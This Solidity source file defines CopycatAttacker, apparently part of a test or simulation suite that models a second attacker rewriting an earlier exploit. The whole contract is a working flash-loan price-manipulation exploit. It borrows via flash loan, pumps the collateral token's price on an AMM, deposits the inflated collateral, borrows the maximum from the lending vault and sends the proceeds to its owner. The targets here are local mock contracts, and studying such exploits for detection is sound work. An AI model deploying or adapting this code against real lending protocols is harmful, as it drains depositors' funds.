// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
import {IFlashLoanSimpleReceiver} from "./interfaces/IFlashLoanSimpleReceiver.sol";
import {FlashLender} from "./FlashLender.sol";
import {SimplePair} from "./SimplePair.sol";
import {LendingVault} from "./LendingVault.sol";

/// @title CopycatAttacker
/// @notice A second attacker's own rewrite of `Attacker`'s exploit, as a copycat writes it
///         after reading the first attack on a block explorer: the same flash loan, swap,
///         collateral deposit, borrow and repayment, but its own code — targets kept in
///         storage and set after deployment, its own entry point (`strike`), its own checks,
///         no event. Different bytecode, different address, the same shape of calls.
contract CopycatAttacker is IFlashLoanSimpleReceiver {
    using SafeERC20 for IERC20;

    address private boss;
    FlashLender private fl;
    SimplePair private amm;
    LendingVault private target;

    constructor() {
        boss = msg.sender;
    }

    function aim(FlashLender fl_, SimplePair amm_, LendingVault target_) external {
        require(msg.sender == boss, "no");
        fl = fl_;
        amm = amm_;
        target = target_;
    }

    function strike(uint256 loan, uint256 pump) external {
        require(msg.sender == boss, "no");
        IERC20 a = target.asset();
        fl.flashLoanSimple(address(this), address(a), loan, abi.encode(pump), 0);
        a.safeTransfer(boss, a.balanceOf(address(this)));
    }

    function executeOperation(address asset, uint256 amount, uint256 premium, address initiator, bytes calldata params)
        external
        returns (bool)
    {
        require(msg.sender == address(fl) && initiator == address(this), "cb");
        uint256 pump = abi.decode(params, (uint256));
        IERC20 a = IERC20(asset);
        IERC20 b = target.collateralToken();
        a.forceApprove(address(amm), pump);
        uint256 got = amm.swapExactIn(asset, pump, 0, address(this));
        b.forceApprove(address(target), got);
        target.depositCollateral(got);
        uint256 cap = target.maxBorrow(address(this));
        uint256 cash = target.availableLiquidity();
        target.borrow(cap < cash ? cap : cash);
        a.forceApprove(address(fl), amount + premium);
        return true;
    }
}
